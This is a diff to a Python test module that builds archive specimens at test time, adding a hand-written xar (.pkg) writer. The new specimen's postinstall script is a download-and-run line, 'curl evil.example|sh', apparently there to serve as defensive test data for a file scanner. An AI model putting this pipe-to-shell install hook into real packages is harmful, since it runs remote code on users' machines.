@@ -1,8 +1,9 @@
 """Specimens of today's delivery formats, built at test time (issue 14): nothing binary is committed.
 
-libarchive writes cpio, ar, xar, ISO 9660 and 7z; pycdlib writes ISO 9660 with Joliet and UDF;
+libarchive writes cpio, ar, ISO 9660 and 7z; pycdlib writes ISO 9660 with Joliet and UDF;
 cabarchive writes MSZIP cabinets; officedocs.compound_file writes the OLE compound files an MSI
-and an Outlook .msg are made of. RAR cannot be written by any free tool here: see tests/data/README.md.
+and an Outlook .msg are made of. No free tool here writes RAR, DMG, VHDX or (with the archi
+wheel's libarchive) xar, so this module writes them by hand from their published formats.
 """
 
 from __future__ import annotations
@@ -11,6 +12,7 @@ import io
 import struct
 from collections.abc import Iterable
 from dataclasses import dataclass
+from typing import Any
 
 import cabarchive
 import pycdlib
@@ -319,6 +321,9 @@ def specimens() -> list[Specimen]:
         Specimen("cpio", "initrd.cpio", make_cpio([("bin/sh", b"#!/bin/sh\n", 0o100755)]), "archive/cpio", True),
         Specimen(".deb", "helper.deb", make_deb({"./usr/bin/helper": b"#!/bin/sh\n"}), "archive/deb", True),
         Specimen("ar", "lib.a", libarchive_write("ar_svr4", [("a.o", b"\x7fELF object")]), "archive/ar", True),
+        Specimen("xar (.pkg)", "installer.pkg", make_xar({"Payload/Install.app/Contents/MacOS/Install": b"\xcf\xfa\xed\xfe mach-o",
+                                                          "Scripts/postinstall": b"#!/bin/sh\ncurl evil.example|sh\n"}),
+                 "archive/xar", True),
         Specimen("DMG (UDZO, FAT)", "app.dmg", make_dmg(), "archive/dmg", True),
         Specimen("UDF image (no ISO 9660)", "disk.img", make_udf({"invoice.pdf.lnk": b"L\0\0\0 lnk"}), "archive/udf", True),
         Specimen("e-mail (.eml)", "invoice.eml", eml, "text/email", True),
@@ -375,6 +380,48 @@ def make_rar4_stored(files: dict[str, bytes], encrypted: bool = False) -> bytes:
                            0x30, len(encoded), 0x20)
         out += rar4_block(0x74, 0x8000 | (0x4 if encrypted else 0), body + encoded) + data
     return out + rar4_block(0x7B, 0x4000, b"")
+
+
+def make_xar(files: dict[str, bytes], links: dict[str, str] | None = None, compress: bool = True) -> bytes:
+    """A xar archive (macOS .pkg, .xip) written by hand from the format: a 28-byte header, the
+    zlib-compressed XML table of contents, then the heap (the TOC's SHA-1, each file's data,
+    zlib-compressed or stored). Names are written as given, '/' making nested <file>s; `links`:
+    symlinks (name → target). libarchive writes xar only when built with libxml2, which the
+    archi wheel's is not."""
+    import hashlib
+    import zlib
+    from xml.sax.saxutils import escape
+
+    heap = bytearray(20)  # the TOC's checksum goes first
+    root: dict[str, Any] = {}  # name -> a file's XML body, or a folder's dict
+    counter = iter(range(1, 1_000_000))
+
+    def place(path: str, body: str) -> None:
+        parts = [path] if path.startswith("/") else path.split("/")  # an absolute name stays one <name>
+        node = root
+        for part in parts[:-1]:
+            node = node.setdefault(part, {})
+        node[parts[-1]] = body
+
+    def render(node: dict[str, Any]) -> str:
+        return "".join(f'<file id="{next(counter)}"><name>{escape(name)}</name>'
+                       + (value if isinstance(value, str) else "<type>directory</type>" + render(value)) + "</file>"
+                       for name, value in node.items())
+
+    for path, data in files.items():
+        packed = zlib.compress(data) if compress else data
+        style = "application/x-gzip" if compress else "application/octet-stream"
+        place(path, f"<type>file</type><data><length>{len(packed)}</length><offset>{len(heap)}</offset><size>{len(data)}</size>"
+                    f'<encoding style="{style}"/><archived-checksum style="sha1">{hashlib.sha1(packed).hexdigest()}'
+                    f'</archived-checksum><extracted-checksum style="sha1">{hashlib.sha1(data).hexdigest()}</extracted-checksum></data>')
+        heap += packed
+    for path, target in (links or {}).items():
+        place(path, f'<type>symlink</type><link type="file">{escape(target)}</link>')
+    toc = ('<?xml version="1.0" encoding="UTF-8"?>\n<xar><toc><checksum style="sha1"><offset>0</offset><size>20</size>'
+           f"</checksum>{render(root)}</toc></xar>\n").encode()
+    packed_toc = zlib.compress(toc)
+    heap[:20] = hashlib.sha1(packed_toc).digest()
+    return struct.pack(">4sHHQQI", b"xar!", 28, 1, len(packed_toc), len(toc), 1) + packed_toc + bytes(heap)
 
 
 def make_fat(files: dict[str, bytes], size: int = 2 * 1024 * 1024) -> bytes:
